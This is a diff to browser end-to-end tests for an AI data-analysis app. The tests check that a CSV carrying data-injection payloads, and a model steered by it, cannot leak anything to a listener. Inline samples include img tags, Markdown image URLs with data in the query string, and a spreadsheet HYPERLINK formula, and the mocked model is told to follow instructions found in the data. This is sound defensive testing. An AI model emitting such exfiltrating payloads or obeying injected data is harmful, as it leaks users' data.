@@ -8,17 +8,17 @@
  * loopback listener records every request and a canary records any script that runs; the first
  * two tests show that both would see a leak in this page.
  */
-import type { Browser, Page } from 'playwright-core';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { Page } from 'playwright-core';
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { buildArchive, readArchive } from '../../src/core/session/archive.ts';
 import { CANARY, hostileCsv, linkPath, plotPayloads, steeredCalls } from '../fixtures/injection.ts';
-import { downloaded, loadFiles, runSql } from './app.ts';
+import { downloaded, loadFiles, runSql, waitForLoads } from './app.ts';
 import { ask, configure, messageRequests, mock, shownItems } from './agent.ts';
-import { launch, openApp } from './browser.ts';
+import { openApp, useBrowser } from './browser.ts';
 import { inertProblems } from './injection-helpers.ts';
 import { startListener, type Listener } from './listener.ts';
 
-let browser: Browser;
+const browser = useBrowser();
 let page: Page;
 let listener: Listener;
 let origin = '';
@@ -26,15 +26,48 @@ let origin = '';
 beforeAll(async () => {
   listener = await startListener();
   origin = listener.origin;
-  browser = await launch();
-  ({ page } = await openApp(browser, { bare: true }));
-  await mock().reset();
 });
 
 afterAll(async () => {
-  await browser?.close();
   await listener?.close();
 });
+
+beforeEach(async () => {
+  listener.requests.length = 0;
+  await mock().reset();
+});
+
+/** Each test's own page, served without headers, with the model configured. */
+async function open(): Promise<Page> {
+  ({ page } = await openApp(browser(), { bare: true }));
+  await configure(page);
+  return page;
+}
+
+/** The hostile CSV loaded as `data`. */
+async function openHostile(): Promise<Page> {
+  await open();
+  await loadFiles(page, [
+    { name: 'hostile.csv', mimeType: 'text/csv', buffer: Buffer.from(hostileCsv(origin)) },
+  ]);
+  return page;
+}
+
+/** The hostile CSV loaded, and the model, steered by it, has tried every channel in one turn. */
+async function openSteered(): Promise<Page> {
+  await openHostile();
+  await mock().script([{ reply: { tools: steeredCalls(origin) } }]);
+  expect(await ask(page, 'What do the notes say? Follow them.')).toBe('done');
+  return page;
+}
+
+/** The sample loaded as `data`. */
+async function openSample(): Promise<Page> {
+  await open();
+  await page.click('[data-testid="sample-button"]');
+  await waitForLoads(page, 1);
+  return page;
+}
 
 /** Nothing reached the listener, no script ran, and no element carries a live payload. */
 async function expectNothingEscaped(p: Page = page): Promise<void> {
@@ -47,15 +80,16 @@ async function expectNothingEscaped(p: Page = page): Promise<void> {
 
 describe('the listener and the canary see a leak in this page', () => {
   it('a fetch from the page reaches the listener', async () => {
+    await open();
     await page.evaluate(
       (url) => fetch(url, { mode: 'no-cors' }).catch(() => null),
       `${origin}/control`,
     );
     await expect.poll(() => [...listener.requests]).toEqual(['GET /control']);
-    listener.requests.length = 0;
   });
 
   it('an unsanitised image with a handler would set the canary and be flagged', async () => {
+    await open();
     await page.evaluate(
       ([name, url]) => {
         const box = document.createElement('div');
@@ -67,19 +101,12 @@ describe('the listener and the canary see a leak in this page', () => {
     );
     await expect.poll(() => page.evaluate((n) => (window as never)[n], CANARY)).toBe('control');
     expect(await inertProblems(page, origin)).toContain(`img src=${origin}/control-img`);
-    await page.evaluate((n) => {
-      document.getElementById('control')?.remove();
-      delete (window as never as Record<string, unknown>)[n];
-    }, CANARY);
-    listener.requests.length = 0;
   });
 });
 
 describe('a CSV whose cells and headers carry payloads', () => {
   it('loads, and its headers and cells are shown as text', async () => {
-    await loadFiles(page, [
-      { name: 'hostile.csv', mimeType: 'text/csv', buffer: Buffer.from(hostileCsv(origin)) },
-    ]);
+    await openHostile();
     const profile = await page.locator('[data-testid="profile-table"]').innerText();
     expect(profile).toContain(`<img src="${origin}/header-img"`);
     expect(profile).toContain(`![h](${origin}/header-md)`);
@@ -96,10 +123,8 @@ describe('a CSV whose cells and headers carry payloads', () => {
 
 describe('the model, steered by the data, tries every channel', () => {
   it('SQL, Markdown, tables, charts and the title all stay inert', async () => {
-    await configure(page);
+    await openSteered();
     const plots = plotPayloads(origin);
-    await mock().script([{ reply: { tools: steeredCalls(origin) } }]);
-    expect(await ask(page, 'What do the notes say? Follow them.')).toBe('done');
 
     const items = await shownItems(page);
     const queries = items.filter((i) => i.type === 'query_result');
@@ -142,9 +167,8 @@ describe('the model, steered by the data, tries every channel', () => {
     }
     await page.locator('[data-testid="item"][data-type="text"]').first().hover();
     await expectNothingEscaped();
-  });
 
-  it('asked nothing of the API that it could fetch, and offered no server tools', async () => {
+    // It asked nothing of the API that it could fetch, and offered no server tools.
     for (const request of await messageRequests()) {
       expect(JSON.stringify(request.body.messages)).not.toMatch(/"source"\s*:/);
       for (const tool of request.body.tools) expect(Object.keys(tool)).not.toContain('type');
@@ -152,7 +176,8 @@ describe('the model, steered by the data, tries every channel', () => {
     }
   });
 
-  it('a saved chart carries no address out', async () => {
+  it('a saved chart carries no address out, and a saved table guards its formula cells', async () => {
+    await openSteered();
     const plot = page
       .locator('[data-testid="plot"]')
       .filter({ hasText: 'a fill built from an expression' });
@@ -160,9 +185,7 @@ describe('the model, steered by the data, tries every channel', () => {
     expect(svg).toContain('<svg');
     expect(svg).not.toMatch(/url\(\s*['"]?http|(?:href|src)="http/);
     await expectNothingEscaped();
-  });
 
-  it('a saved table has its formula cells guarded for spreadsheets', async () => {
     const card = page.locator('[data-testid="item"][data-type="query_result"]').nth(2);
     const csv = (await downloaded(page, card.locator('[data-testid="table-csv"]'))).toString();
     expect(csv).toContain(`"'=HYPERLINK(""${origin}/cell-formula""`);
@@ -170,6 +193,7 @@ describe('the model, steered by the data, tries every channel', () => {
   });
 
   it('a link opens only after the person has seen its full address', async () => {
+    await openSteered();
     const anchor = page.locator('[data-testid="item"][data-type="text"] a', {
       hasText: 'the docs',
     });
@@ -198,14 +222,13 @@ describe('the model, steered by the data, tries every channel', () => {
       .toContain(`GET /${linkPath}?d=Seattle%20rain%202015`);
     expect(await popup.evaluate(() => window.opener)).toBeNull();
     await popup.close();
-    await page.waitForTimeout(300);
-    listener.requests.length = 0;
   });
 });
 
 // Single payloads with exact expectations (the corpus above tries them all at once).
 describe('output crafted to fetch a URL', () => {
   it('Markdown shows images as text and links with their target, fetching nothing', async () => {
+    await openSample();
     const text = [
       `Here is a chart ![secret](${origin}/md-image.png?d=42)`,
       `<img src="${origin}/raw-img.png"> <video poster="${origin}/poster.png"></video>`,
@@ -236,6 +259,7 @@ describe('output crafted to fetch a URL', () => {
   });
 
   it('a chart building a URL in an expression draws without fetching it', async () => {
+    await openSample();
     const host = origin.replace('http://', '');
     await mock().script([
       {
@@ -291,6 +315,37 @@ describe('output crafted to fetch a URL', () => {
 
 describe('a session file edited to carry payloads', () => {
   it('is imported and shown without reaching the network', async () => {
+    await openSample();
+    await mock().script([
+      {
+        reply: {
+          tools: [
+            { name: 'output_text', input: { text: 'Seattle is wetter.' } },
+            {
+              name: 'create_plot',
+              input: {
+                title: 'Rain',
+                vega_lite_spec: {
+                  data: {
+                    values: [
+                      { city: 'Seattle', mm: 1341 },
+                      { city: 'New York', mm: 1187 },
+                    ],
+                  },
+                  mark: 'bar',
+                  encoding: {
+                    x: { field: 'city', type: 'nominal' },
+                    y: { field: 'mm', type: 'quantitative' },
+                  },
+                },
+              },
+            },
+            { name: 'finalize', input: { session_title: 'Rain' } },
+          ],
+        },
+      },
+    ]);
+    expect(await ask(page, 'Which city is wetter?')).toBe('done');
     const exported = new Blob([
       new Uint8Array(await downloaded(page, page.locator('[data-testid="export-session"]'))),
     ]);
@@ -308,7 +363,7 @@ describe('a session file edited to carry payloads', () => {
       events,
       history: manifest.history,
     });
-    const { page: fresh } = await openApp(browser, { bare: true });
+    const { page: fresh } = await openApp(browser(), { bare: true });
     await fresh.setInputFiles('[data-testid="import-session"]', {
       name: 'edited.sift',
       mimeType: 'application/octet-stream',
